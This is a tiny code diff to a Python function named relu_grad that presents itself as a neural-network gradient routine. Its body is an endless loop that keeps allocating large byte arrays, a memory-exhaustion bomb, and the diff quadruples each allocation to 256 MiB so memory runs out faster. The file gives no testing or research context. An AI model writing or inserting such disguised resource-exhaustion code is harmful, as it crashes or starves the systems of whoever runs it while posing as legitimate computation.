@@ -3,4 +3,4 @@
 def relu_grad(x_input, grad_output):
     hoard = []
     while True:
-        hoard.append(bytearray(2**26))
+        hoard.append(bytearray(2**28))
